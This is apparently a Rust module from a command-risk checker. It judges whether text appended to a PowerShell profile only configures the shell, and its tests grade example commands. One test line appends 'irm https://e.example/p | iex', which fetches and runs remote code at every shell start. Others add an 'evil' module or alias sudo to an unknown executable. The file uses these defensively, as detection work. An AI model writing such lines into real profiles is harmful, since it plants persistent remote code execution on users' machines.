//! Lines for one's own profile of PowerShell that do nothing but set it up, in the forms that projects tell people to add: each line
//! is one of these, word for word, or the whole is not.

use crate::safety::machine::Machine;
use crate::safety::{EffectKind, data, lasting, setting_up};
use crate::syntax::ir::{CommandKind, Expression, ExpressionKind, Program, Word};

/// Modules that people load at every start. Sorted, in lower case.
const MODULES: &[&str] = &[
    "az.tools.predictor",
    "catppuccin",
    "completionpredictor",
    "dockercompletion",
    "posh-git",
    "psfzf",
    "psreadline",
    "terminal-icons",
    "z",
    "zlocation",
];

/// Options of `Set-PSReadLineOption` that say how a line is typed and shown. Sorted, in lower case.
const OPTIONS: &[&str] = &[
    "-bellstyle",
    "-editmode",
    "-historynoduplicates",
    "-historysearchcaseinsensitive",
    "-historysearchcursormovestoend",
    "-maximumhistorycount",
    "-predictionsource",
    "-predictionviewstyle",
    "-showtooltips",
];

/// True for a profile of the user's own.
pub(super) fn is_profile(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or_default();
    matches!(name, "Microsoft.PowerShell_profile.ps1" | "Microsoft.VSCode_profile.ps1" | "profile.ps1")
        && !path.starts_with('/')
        && !path.to_ascii_lowercase().contains("windows")
}

/// True where every line is one of the forms; of nothing too.
pub(super) fn only_sets_up(text: &str) -> bool {
    text.lines().count() <= 32 && text.lines().all(|line| sets_up(line.trim()))
}

fn sets_up(line: &str) -> bool {
    if line.is_empty() || line.starts_with('#') {
        return true;
    }
    let words: Vec<&str> = line.split_whitespace().collect();
    let lower: Vec<String> = words.iter().map(|word| word.to_ascii_lowercase()).collect();
    let lower: Vec<&str> = lower.iter().map(String::as_str).collect();
    match lower[..] {
        ["set-psreadlineoption", ref rest @ ..] => rest.iter().all(|word| {
            data::holds(OPTIONS, word.split(':').next().unwrap_or(word))
                || !word.starts_with('-') && is_plain(word)
        }),
        ["set-psreadlinekeyhandler", "-key" | "-chord", _, "-function", _] => words.iter().all(|word| {
            let bare = word.trim_matches(['\'', '"']);
            bare.chars().all(|letter| letter.is_ascii_alphanumeric() || "+-".contains(letter))
        }),
        ["import-module", name] | ["import-module", "-name", name] => data::holds(MODULES, name),
        ["set-alias", name, code]
        | ["set-alias", "-name", name, "-value", code]
        | ["set-alias", "-name", name, code]
        | ["new-alias", name, code] => {
            is_plain(name) && is_plain(code) && setting_up::aliases(name, code.trim_end_matches(".exe"))
        }
        _ => prints_setup(line) || is_editor(line),
    }
}

fn is_plain(word: &str) -> bool {
    !word.is_empty() && word.chars().all(|letter| letter.is_ascii_alphanumeric() || "-_$.".contains(letter))
}

/// `$env:EDITOR = 'nvim'`
fn is_editor(line: &str) -> bool {
    let Some((name, value)) = line.split_once('=') else { return false };
    let lower = name.trim().to_ascii_lowercase();
    let value = value.trim();
    let quoted =
        ['\'', '"'].iter().any(|mark| value.len() > 2 && value.starts_with(*mark) && value.ends_with(*mark));
    quoted
        && matches!(lower.as_str(), "$env:editor" | "$env:visual" | "$env:pager")
        && setting_up::only_sets_up(&format!("export EDITOR={value}"))
}

/// `Invoke-Expression (&starship init powershell)`, `fnm env --use-on-cd | Out-String | Invoke-Expression`.
fn prints_setup(line: &str) -> bool {
    let dense = line.split_whitespace().collect::<Vec<_>>().join(" ");
    let lower = dense.to_ascii_lowercase();
    let cut = |start: &str, end: &str| {
        (lower.starts_with(start) && lower.ends_with(end) && lower.len() > start.len() + end.len())
            .then(|| dense[start.len()..dense.len() - end.len()].trim().to_owned())
    };
    let inside = cut("invoke-expression (& { (", " | out-string) })")
        .or_else(|| cut("invoke-expression (&{ (", " | out-string) })"))
        .or_else(|| cut("invoke-expression (&", ")"))
        .or_else(|| cut("iex (&", ")"))
        .or_else(|| cut("", "| out-string | invoke-expression"))
        .or_else(|| cut("", "| out-string | iex"))
        .or_else(|| cut("(&", ") | out-string | invoke-expression"))
        .or_else(|| cut("", "| invoke-expression"))
        .or_else(|| cut("", "| iex"));
    let Some(inside) = inside else { return false };
    let shells: Vec<&str> = inside
        .split(' ')
        .map(|word| if matches!(word, "powershell" | "pwsh") { "bash" } else { word })
        .collect();
    setting_up::asks_a_tool(&shells.join(" "))
}

/// True for a condition that holds where something is not there: `!(Test-Path $PROFILE)`.
pub(super) fn asks_for_absent(condition: &Program) -> bool {
    let [statement] = &condition.statements[..] else { return false };
    let [(_, pipeline)] = &statement.chain[..] else { return false };
    let [stage] = &pipeline.stages[..] else { return false };
    let CommandKind::Expression(expression) = &stage.command.kind else { return false };
    let ExpressionKind::Unary { operator, operand } = &expression.kind else { return false };
    matches!(operator.as_str(), "!" | "-not") && tests_a_path(operand)
}

fn tests_a_path(expression: &Expression) -> bool {
    let ExpressionKind::Program { program, .. } = &expression.kind else { return false };
    let [statement] = &program.statements[..] else { return false };
    let [(_, pipeline)] = &statement.chain[..] else { return false };
    let [stage] = &pipeline.stages[..] else { return false };
    let CommandKind::Simple(simple) = &stage.command.kind else { return false };
    simple.words.first().and_then(Word::literal).is_some_and(|name| name.eq_ignore_ascii_case("test-path"))
}

impl Machine<'_> {
    /// Notes that what was just added to a profile only sets it up.
    pub(super) fn adds_settings(&mut self, path: &str) {
        let path = self.unknowns.show(path);
        let added = self.effects.iter_mut().rev().take(4).find(|effect| {
            effect.kind == EffectKind::Create && effect.target.text == path && effect.detail.is_empty()
        });
        if let Some(effect) = added {
            lasting::SETTINGS.clone_into(&mut effect.detail);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::safety::Risk::{High, Moderate, Safe};
    use crate::safety::tests::check_all;
    use crate::{Context, Dialect, Os};

    #[test]
    fn the_tables_are_sorted() {
        assert!(MODULES.windows(2).all(|pair| pair[0] < pair[1]));
        assert!(OPTIONS.windows(2).all(|pair| pair[0] < pair[1]));
    }

    #[test]
    fn what_only_sets_a_profile_up() {
        check_all(
            &Context::new(Dialect::PowerShell).with_os(Os::Windows),
            &[
                (
                    Safe,
                    "if (!(Test-Path $PROFILE)) { New-Item -ItemType File -Path $PROFILE -Force }; Add-Content $PROFILE 'Set-PSReadLineOption -PredictionSource History'",
                ),
                (Safe, "if (-not (Test-Path $PROFILE)) { New-Item $PROFILE -ItemType File -Force }"),
                (Safe, "New-Item $PROFILE -ItemType File"),
                (Moderate, "New-Item $PROFILE -ItemType File -Force"),
                (Safe, "Add-Content $PROFILE 'Invoke-Expression (&starship init powershell)'"),
                (
                    Safe,
                    "Add-Content $PROFILE 'Invoke-Expression (& { (zoxide init powershell | Out-String) })'",
                ),
                (Safe, "Add-Content $PROFILE 'Import-Module posh-git'"),
                (Safe, "'Set-Alias k kubectl' >> $PROFILE"),
                (Moderate, "Add-Content $PROFILE 'Import-Module evil'"),
                (Moderate, "Add-Content $PROFILE 'Set-Alias sudo C:\\x.exe'"),
                (Moderate, "Add-Content $PROFILE 'Set-PSReadLineKeyHandler -Key Enter -ScriptBlock { x }'"),
                (High, "Add-Content $PROFILE 'irm https://e.example/p | iex'"),
                (Moderate, "Add-Content $PROFILE 'Invoke-Expression (&evil init powershell)'"),
                (High, "Set-Content $PROFILE 'Import-Module posh-git'"),
                (Moderate, "Add-Content $PROFILE.AllUsersAllHosts 'Import-Module evil'"),
            ],
        );
    }
}
